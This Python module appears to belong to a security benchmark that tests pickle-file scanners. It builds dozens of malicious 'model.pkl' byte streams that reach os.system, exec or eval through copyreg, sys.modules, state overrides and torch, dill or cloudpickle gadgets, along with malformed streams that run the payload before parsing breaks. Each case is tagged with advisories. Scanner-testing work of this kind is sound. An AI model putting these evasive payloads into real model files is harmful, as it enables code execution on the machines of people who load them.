"""Streams that change what later opcodes mean, build functions, or break after the payload."""

from __future__ import annotations

import marshal
import struct

from bench.scanner_attacks.pickle_forms import RUN, SYSTEM
from bench.scanner_attacks.stream import Call, Name, call, push, stream, text
from bench.scanner_attacks.techniques import COMMAND, SOURCE, Family

FAMILY = Family("pickle state, broken streams")
_ARGUMENTS = push((COMMAND,))
_IMPORT_OS = call("builtins", "__import__", "os")
_PROGRAM = marshal.dumps(compile("print('muniment-bench')", "bench", "exec"))


def _attribute(what: object, name: str) -> Call:
    return call("builtins", "getattr", what, name)


def _attribute_call(what: object, name: str, *arguments: object) -> Call:
    return Call(_attribute(what, name), arguments)


_STATE = {
    "extension-code-1": b"\x80\x02\x82\x07" + push((COMMAND,), 2) + b"R.",
    "extension-code-2": b"\x80\x02\x83\x00\x01" + push((COMMAND,), 2) + b"R.",
    "extension-code-4": b"\x80\x02\x84\x00\x00\x01\x00" + push((COMMAND,), 2) + b"R.",
    "extension-registered-inside": (
        b"\x80\x04" + push(call("copyreg", "add_extension", "os", "system", 200)) + b"0\x82\xc8"
        + _ARGUMENTS + b"R."
    ),
    "extension-cache-by-state": (
        b"\x80\x04" + push(Name("copyreg", "_inverted_registry")) + b"K\xc8"
        + push(("os", "system")) + b"s0\x82\xc8" + _ARGUMENTS + b"R."
    ),
    "copyreg-pickle-registered": stream(
        call("copyreg", "pickle", Name("builtins", "complex"), Name("os", "system"))
    ),
    "state-sets-module-attribute": (
        b"\x80\x04" + push(Name("logging", "os")) + push({"getcwd": Name("builtins", "breakpoint")})
        + b"b."
    ),
    "state-sets-class-attribute": (
        b"\x80\x04" + push(Name("collections", "Counter")) + b"N"
        + push({"__setitem__": Name("builtins", "exec")}) + b"\x86b."
    ),
    "state-replaces-setstate": (
        b"\x80\x04" + push(call("argparse", "Namespace")) + b"}" + text("__setstate__")
        + push(Name("os", "system")) + b"sb" + text(COMMAND) + b"b."
    ),
    "state-sets-reduce-on-class": (
        b"\x80\x04" + push(Name("fractions", "Fraction")) + b"N"
        + push({"__reduce__": Name("os", "system")}) + b"\x86b."
    ),
    "sys-modules-overridden": (
        b"\x80\x04" + push(Name("sys", "modules")) + text("numpy") + push(_IMPORT_OS) + b"s0"
        + push(Name("numpy", "system")) + _ARGUMENTS + b"R."
    ),
    "sys-modules-sys-by-dict": (
        b"csys\nmodules\np0\n0g0\nVsys\ng0\ns0csys\nget\n(Vos\ntRp1\n0g0\nVsys\ng1\ns0csys\nsystem\n("
        + text(COMMAND, 0) + b"tR."
    ),
    "builtins-dict-item": (
        b"\x80\x04" + push(Call(call("builtins", "getattr", Name("builtins", "__dict__"), "get"),
        ("eval",))) + push((SOURCE,)) + b"R."
    ),
    "globals-of-a-function": stream(
        _attribute_call(
            Call(_attribute(_attribute(_attribute(Name("random", "choice"), "__func__"),
                                       "__globals__"), "get"), ("_os",)), "system", COMMAND)
    ),
    "class-method-by-dots": stream(
        Call(Name("bdb", "Bdb.run"), (call("bdb", "Bdb"), SOURCE))
    ),
    "rebuild-from-type": stream(
        call("torch._tensor", "_rebuild_from_type_v2", Name("os", "system"),
             Name("torch", "Tensor"), (COMMAND,), {})
    ),
    "dill-create-function": stream(
        Call(call("dill._dill", "_create_function",
             call("dill._dill", "_create_code", 0, 0, 0, 0, 1, 67, b"d\0S\0", (None,), (), (),
                  "f", "f", 1, b"", (), ()), {}))
    ),
    "cloudpickle-make-function": stream(
        call("cloudpickle.cloudpickle", "_make_function",
             call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), {}, None, None, None)
    ),
    "cloudpickle-subimport": stream(
        Call(call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", "os"),
                  "system"), (COMMAND,))
    ),
    "marshalled-function": stream(
        Call(call("types", "FunctionType", call("marshal", "loads", _PROGRAM), {}))
    ),
    "code-object": stream(
        Call(call("types", "FunctionType", call("types", "CodeType", 0, 0, 0, 0, 1, 67, b"d\0S\0",
             (None,), (), (), "f", "f", "f", 1, b"", b""), {}))
    ),
}  # fmt: skip
_BROKEN = {
    "broken-after-payload": b"\x80\x04" + RUN + b"X\xff\xff\xff\xffbroken",
    "broken-unknown-opcode": b"\x80\x04" + RUN + b"\xff\xff\xff.",
    "broken-no-stop": b"\x80\x04" + RUN,
    "broken-truncated-text": b"cbuiltins\nexec\n(X"
    + struct.pack("<I", len(SOURCE))
    + SOURCE.encode()
    + b"tRX.",
    "broken-empty-stack-after": b"\x80\x04" + RUN + b"000.",
    "broken-bad-utf8-after": b"\x80\x04" + RUN + b"\x8c\x02\xff\xfe.",
    "broken-missing-global-after": b"\x80\x04" + RUN + b"cno_such_module\nno_such_name\n.",
    "second-pickle-in-file": stream({"epoch": 1}) + stream(SYSTEM),
    "sixth-pickle-in-file": stream(["a"]) * 5 + stream(SYSTEM),
    "payload-after-stop-and-text": stream({"epoch": 1}) + b"\n\n\t  " + stream(SYSTEM),
    "payload-then-text": stream(SYSTEM) + b"\n\n\t\t",
    "old-talk-sour-pickles": (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'pass'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\n"
        b"S'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    ),
}
_ADVISORIES = {
    "sys-modules-sys-by-dict": ("picklescan sys_module_override",),
    "state-sets-class-attribute": ("arXiv 2508.15987",),
    "state-sets-module-attribute": ("arXiv 2508.15987",),
    "marshalled-function": ("GHSA-565g-hwwr-4pp3", "CVE-2025-67747"),
    "code-object": ("picklescan types_CodeType",),
    "cloudpickle-make-function": ("picklescan cloudpickle_codeinjection",),
    "broken-after-payload": ("nullifAI", "ReversingLabs 2025"),
    "broken-truncated-text": ("picklescan broken_model",),
    "second-pickle-in-file": ("picklescan malicious6",),
    "old-talk-sour-pickles": ("Black Hat 2011",),
}
_LATENT = frozenset(
    {
        "extension-code-1",
        "extension-code-2",
        "extension-code-4",
        "payload-after-stop-and-text",
        "cloudpickle-make-function",
    }
)
"""What a plain load refuses, does not reach, or only builds without calling it."""

for _name, _code in {**_STATE, **_BROKEN}.items():
    FAMILY.add(
        _name,
        "model.pkl",
        lambda code=_code: code,
        *_ADVISORIES.get(_name, ()),
        least="review" if _name in _LATENT else "malicious",
    )
